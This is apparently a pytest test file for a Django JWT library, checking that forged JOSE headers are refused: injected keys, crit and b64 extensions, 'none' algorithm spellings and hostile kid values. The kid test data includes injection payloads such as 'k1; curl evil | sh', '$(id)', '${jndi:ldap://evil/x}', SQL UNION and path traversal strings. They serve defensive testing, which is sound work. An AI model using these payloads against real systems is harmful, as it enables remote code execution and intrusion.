"""The JOSE Header: parameters that are refused, and the syntax of a kid."""

import json

import pytest

from django_jwtkit.errors import AlgorithmRefused, BadSignature, MalformedToken, TokenError, UnknownKey
from django_jwtkit.jose import Key, KeySet, jwe, jws, jwt, unverified_header
from django_jwtkit.jose.jwa.signatures import ALGORITHMS
from django_jwtkit.jose.wire.encoding import b64u_encode
from tests.jose.signing import ALGS, NOW, decoded, forged, key, public

STRANGER = Key.generate("HS256", kid="stranger")
OUTSIDE = [
    pytest.param({"jwk": STRANGER.to_dict(private=True)}, marks=pytest.mark.threat("HKEY-001", "HKEY-002")),
    pytest.param({"jwk": {"kty": "oct", "k": "AAAA"}}, marks=pytest.mark.threat("HKEY-002")),
    pytest.param({"jku": "http://127.0.0.1:1/"}, marks=pytest.mark.threat("HKEY-003")),
    pytest.param({"x5u": "http://127.0.0.1:1/"}, marks=pytest.mark.threat("HKEY-004")),
    pytest.param({"x5c": ["MIIB"]}, marks=pytest.mark.threat("HKEY-005")),
    pytest.param({"jku": "https://good.example@evil"}, marks=pytest.mark.threat("HKEY-006")),
    pytest.param({"x5t#S256": "AAAA"}, marks=pytest.mark.threat("HKEY-007")),
    pytest.param({"x5t": "AAAA"}, marks=pytest.mark.threat("HKEY-007")),
    pytest.param({"jwk": None}, marks=pytest.mark.threat("HKEY-001")),
]


@pytest.mark.parametrize("header", OUTSIDE, ids="+".join)
def test_a_header_never_brings_or_names_its_own_key(header):
    """What names a key is not looked at, so the token is good by our key, and by no other."""
    assert decoded(forged(header=header))["sub"] == "42"
    text = jws.sign(b"{}", STRANGER)
    signing_input = ".".join((forged(header=header).split(".")[0], text.split(".")[1]))
    signature = ALGORITHMS["HS256"].sign(STRANGER.native_private, signing_input.encode())
    with pytest.raises(BadSignature):
        decoded(f"{signing_input}.{b64u_encode(signature)}")


@pytest.mark.parametrize(
    "header", [{"x5t": 1}, {"x5t#S256": None}, {"jku": []}, {"x5c": "MIIB"}, {"jwk": "x"}], ids=str
)
def test_what_is_not_looked_at_may_be_anything(header):
    """Within the bounds of the parser."""
    assert decoded(forged(header=header))["sub"] == "42"


CRITICAL = [
    pytest.param({"crit": ["exp"], "exp": NOW}, marks=pytest.mark.threat("CRIT-001")),
    pytest.param({"crit": []}, marks=pytest.mark.threat("CRIT-002")),
    pytest.param({"crit": "exp"}, marks=pytest.mark.threat("CRIT-003")),
    pytest.param({"crit": ["b64"], "b64": True}, marks=pytest.mark.threat("CRIT-004")),
    pytest.param({"crit": ["b64"], "b64": False}, marks=pytest.mark.threat("CRIT-005", "DOS-008")),
    pytest.param({"b64": False}, marks=pytest.mark.threat("CRIT-006")),
    pytest.param({"crit": ["alg"]}, marks=pytest.mark.threat("CRIT-007")),
    pytest.param({"crit": ["absent"]}, marks=pytest.mark.threat("CRIT-008")),
    pytest.param({"crit": ["x", "x"], "x": 1}, marks=pytest.mark.threat("CRIT-009")),
    pytest.param({"crit": [1]}, marks=pytest.mark.threat("CRIT-010")),
    pytest.param({"crit": None}, marks=pytest.mark.threat("CRIT-011")),
    pytest.param({"crit": {}}, marks=pytest.mark.threat("CRIT-012")),
    pytest.param({"zip": "DEF"}, marks=pytest.mark.threat("CRIT-021", "DOS-010")),
]


@pytest.mark.parametrize("header", CRITICAL, ids=str)
def test_no_extension_is_understood(header):
    """Any crit, any b64 and any zip, sound or not, is refused before the payload is looked at."""
    with pytest.raises(MalformedToken):
        decoded(forged(header=header))


@pytest.mark.threat("CRIT-020", "CRIT-023")
def test_an_unencoded_or_detached_payload_is_malformed():
    """RFC 7797 has no place in a JWT (§7)."""
    protected, payload, signature = forged(header={"b64": False, "crit": ["b64"]}).split(".")
    for text in (
        f"{protected}.a.b.c.{signature}",
        f"{protected}..{signature}",
        f"{protected}.{{}}.{signature}",
    ):
        with pytest.raises(MalformedToken):
            decoded(text)
    with pytest.raises(TypeError):
        jws.verify(f"{protected}..{signature}", public("HS256"), algorithms={"HS256"}, payload=payload)


ALG_MISFITS = [
    pytest.param("none", marks=pytest.mark.threat("ALG-001")),
    *(
        pytest.param(alg, marks=pytest.mark.threat("ALG-002"))
        for alg in ("None", "NONE", "nOnE", "none ", "\tnone", "none\u200b", "")
    ),
    pytest.param("hs256", marks=pytest.mark.threat("ALG-012")),
    pytest.param("HS1024", marks=pytest.mark.threat("ALG-013")),
    pytest.param("HS512", marks=pytest.mark.threat("ALG-014")),
    pytest.param("A256KW", marks=pytest.mark.threat("ALG-013")),
    pytest.param("PBES2-HS256+A128KW", marks=pytest.mark.threat("ALG-013", "DOS-009")),
]


@pytest.mark.parametrize("alg", ALG_MISFITS, ids=ascii)
def test_an_alg_that_is_not_allowed_is_refused(alg):
    """Byte for byte one of the caller's names; "none" is not even a name that a caller can give."""
    with pytest.raises(AlgorithmRefused) as refusal:
        decoded(forged(header={"alg": alg}))
    assert not alg or alg not in str(refusal.value)


@pytest.mark.threat("ALG-001", "ALG-003", "ALG-004")
@pytest.mark.parametrize("alg", ["none", "HS256"])
@pytest.mark.parametrize("signature", ["", "QUJD"])
def test_a_token_without_its_signature_is_refused(alg, signature):
    """Whether the header says so or not."""
    unsigned = forged(header={"alg": alg}).rpartition(".")[0]
    with pytest.raises(TokenError):
        decoded(f"{unsigned}.{signature}")


@pytest.mark.threat("ALG-001", "ALG-019")
@pytest.mark.parametrize("names", [{"none"}, {"HS256", "none"}, {"hs256"}, {"A256KW"}, set(), [], ()])
def test_algorithms_that_do_not_sign_cannot_be_allowed(names):
    """A wrong call, found before the token is looked at."""
    with pytest.raises(ValueError):
        jws.verify(None, public("HS256"), algorithms=names)


@pytest.mark.threat("ALG-019")
@pytest.mark.parametrize("names", ["RS256", "", b"RS256", None, 1, {1}, [None]], ids=str)
def test_algorithms_are_a_collection_of_names(names):
    """In the text "RS256" there is an "S2"."""
    with pytest.raises(TypeError):
        jws.verify(forged(), public("HS256"), algorithms=names)


@pytest.mark.threat("ALG-010", "ALG-011")
@pytest.mark.parametrize("alg", [None, 1, True, 1.5, ["HS256"], {"a": 1}], ids=str)
def test_an_alg_is_text(alg):
    """A list can't even be looked up in a set."""
    with pytest.raises(MalformedToken):
        decoded(forged(header={"alg": alg}))


@pytest.mark.threat("ALG-011")
def test_an_alg_there_must_be():
    """It is the one member that no header lacks (RFC 7515 §4.1.1)."""
    with pytest.raises(MalformedToken):
        decoded(forged(header=b'{"typ": "at+jwt"}'))


HOSTILE = [
    pytest.param("../../../../dev/null", marks=pytest.mark.threat("KID-001")),
    pytest.param("x' UNION SELECT 'secret'--", marks=pytest.mark.threat("KID-002")),
    pytest.param("k" * 255, marks=pytest.mark.threat("KID-004")),
    pytest.param("../k1%00.pem", marks=pytest.mark.threat("KID-005")),
    pytest.param("k1; curl evil | sh", marks=pytest.mark.threat("KID-006")),
    pytest.param("$(id)", marks=pytest.mark.threat("KID-006")),
    pytest.param("${jndi:ldap://evil/x}", marks=pytest.mark.threat("KID-007")),
    pytest.param("key-HS256 ", marks=pytest.mark.threat("KID-010")),
    pytest.param("ｋey-HS256", marks=pytest.mark.threat("KID-009")),
]


@pytest.mark.parametrize("kid", HOSTILE, ids=lambda kid: ascii(kid)[:30])
def test_a_kid_is_nothing_but_a_name(kid):
    """Any printable text: it finds the key of exactly that name, or none, and no message repeats it."""
    for by in (key("HS256"), KeySet([key("HS256"), key("HS384")])):
        with pytest.raises(UnknownKey) as refusal:
            jws.verify(forged(header={"kid": kid}), by, algorithms={"HS256"})
        assert kid not in str(refusal.value)
    named = Key.from_dict(key("HS256").to_dict(private=True), kid=kid)
    for by in (named, KeySet([named, key("HS384")])):
        assert jws.verify(forged(header={"kid": kid}), by, algorithms={"HS256"}).key is named


KIDS = [
    pytest.param("k1\x00", marks=pytest.mark.threat("KID-003")),
    pytest.param("k" * 10_000, marks=pytest.mark.threat("KID-004")),
    pytest.param("k" * 256, marks=pytest.mark.threat("KID-004")),
    pytest.param("k1\r\nSet-Cookie: a=b", marks=pytest.mark.threat("KID-008")),
    pytest.param("k1\n", marks=pytest.mark.threat("KID-008")),
    pytest.param("k1\x1b[2J", marks=pytest.mark.threat("KID-008")),
    pytest.param("k\x85", marks=pytest.mark.threat("KID-008")),
    pytest.param("k\u2028", marks=pytest.mark.threat("KID-008")),
    pytest.param("k\u202e1", marks=pytest.mark.threat("KID-009")),
    pytest.param("k\u200b", marks=pytest.mark.threat("KID-009")),
    *(
        pytest.param(kid, marks=pytest.mark.threat("KID-020"))
        for kid in (1, None, True, ["x"], {"$ne": None}, 1.5)
    ),
]


@pytest.mark.parametrize("kid", KIDS, ids=lambda kid: ascii(kid)[:30])
def test_a_strange_kid_is_malformed(kid):
    """Whatever kind of key source would have looked for it; the message does not repeat it."""
    for by in (key("HS256"), KeySet([key("HS256"), key("HS384")])):
        with pytest.raises(MalformedToken) as refusal:
            jws.verify(forged(header={"kid": kid})[:8192], by, algorithms={"HS256"})
        assert str(kid) not in str(refusal.value) or len(str(kid)) < 3


@pytest.mark.threat("KID-011", "KID-024")
@pytest.mark.parametrize("kid", ["KEY-HS256", "Key-HS256", "key-HS25", "key-HS2567", "key-HS384-other"])
def test_a_kid_is_compared_octet_by_octet(kid):
    """Neither the case nor a part of it is forgiven, in one key or in a set."""
    for by in (key("HS256"), KeySet([key("HS256"), key("HS384")])):
        with pytest.raises(UnknownKey):
            jws.verify(forged(header={"kid": kid}), by, algorithms={"HS256"})


def test_an_empty_kid_names_no_key():
    """Some issuers write it where there is none: a single key is that key, and no other is tried."""
    text = forged(header={"kid": ""})
    assert jws.verify(text, public("HS256"), algorithms={"HS256"}).header["kid"] == ""
    assert jws.verify(text, KeySet([public("HS256")]), algorithms={"HS256"})
    with pytest.raises(UnknownKey):
        jws.verify(text, KeySet([public("HS256"), public("HS384")]), algorithms={"HS256"})


FOREIGN_KIDS = [
    *("a", "2011-04-29", "bilbo.baggins@hobbiton.example", "A" * 128, "a_b~c:d+e=", "A" * 255),
    *("J4j+I06r0I0vpYnBNucugV8xAPV5/Xv4uYrrpwwSNK0=", "did:web:example.com#key-1"),
    *("https://idp.example/keys/1?v=2", "HMAC key used in JWS A.1 example", "Schlüssel", "鍵", " "),
]


@pytest.mark.parametrize("kid", FOREIGN_KIDS)
def test_common_kids_of_others_are_fine(kid):
    """Dates, addresses, thumbprints, base64, DIDs, URLs, sentences."""
    assert unverified_header(forged(header={"kid": kid}))["kid"] == kid
    item = Key.generate("ES256", kid=kid)
    keys = KeySet.from_dict(KeySet([item.public(), public("ES384")]).to_dict())
    assert jws.verify(jws.sign(b"x", item), keys, algorithms={"ES256"}).key == item.public()


@pytest.mark.threat("TYP-008", "TYP-009", "TYP-010")
@pytest.mark.parametrize("name", ["typ", "cty"])
@pytest.mark.parametrize("value", [1, None, ["JWT"], {}], ids=str)
def test_typ_and_cty_are_text(name, value):
    """Also where nobody asks for them."""
    with pytest.raises(MalformedToken):
        decoded(forged(header={name: value}))


def test_unknown_members_are_ignored():
    """As RFC 7515 §4 wants it."""
    assert decoded(forged(header={"https://example.com/x": [1], "nonce": "n"}))


@pytest.mark.parametrize("alg", ALGS)
def test_the_unverified_header_is_there_for_the_asking(alg):
    """It says what the token says, of a JWS by any algorithm; nobody has vouched for it."""
    text = jws.sign(b"", key(alg), header={"typ": "x"})
    assert unverified_header(text) == {"alg": alg, "kid": key(alg).kid, "typ": "x"}
    assert unverified_header(text[:-4].encode() + b"AAAA") == unverified_header(text)


@pytest.mark.parametrize(
    "text", ["", "a.b", "a.b.c.d", "...", None, b"\xff..", "e30..", "x" * 9000 + ".."], ids=ascii
)
def test_an_unverified_header_is_parsed_as_strictly(text):
    """A log or a look-up is a target as well."""
    with pytest.raises(MalformedToken):
        unverified_header(text)


@pytest.mark.parametrize("name", ["alg", "enc", "kid", "crit", "b64", "zip", "jwk", "jku", "x5u", "x5c"])
def test_the_caller_sets_no_parameter_that_is_not_theirs(name):
    """Of a JWS, of a JWE, and of a JWT."""
    for write in (
        lambda: jws.sign(b"", key("HS256"), header={name: "x"}),
        lambda: jwe.encrypt(b"", Key.generate("A256KW"), header={name: "x"}),
        lambda: jwt.encode({"exp": NOW}, key("HS256"), header={name: "x"}),
    ):
        with pytest.raises(ValueError, match=name):
            write()


@pytest.mark.parametrize("name", ["x5t", "x5t#S256", "nonce", "https://example.com/x"])
def test_the_caller_may_set_others(name):
    """Such as the thumbprint of a certificate, for verifiers that choose the key by it."""
    text = jwt.encode({"sub": "42", "exp": NOW + 9}, key("HS256"), typ="a+jwt", header={name: "AAAA"})
    header = {"alg": "HS256", "kid": "key-HS256", "typ": "a+jwt", name: "AAAA"}
    assert unverified_header(text) == header
    assert decoded(text, typ="a+jwt")["sub"] == "42"


def test_a_type_has_a_parameter_of_its_own():
    """Two ways to say it would be one too many."""
    with pytest.raises(ValueError, match="typ="):
        jwt.encode({"exp": NOW}, key("HS256"), header={"typ": "x"})
    for header in ("typ", ["typ"], [("nonce", "x")]):
        with pytest.raises(TypeError):
            jwt.encode({"exp": NOW}, key("HS256"), header=header)


def test_a_header_in_other_spellings_is_one_header():
    """White space and order are free in JSON."""
    header = json.dumps({"typ": "JWT", "alg": "HS256"}, indent=2).encode()
    assert decoded(forged(header=header))["sub"] == "42"
    assert b64u_encode(header) in forged(header=header)
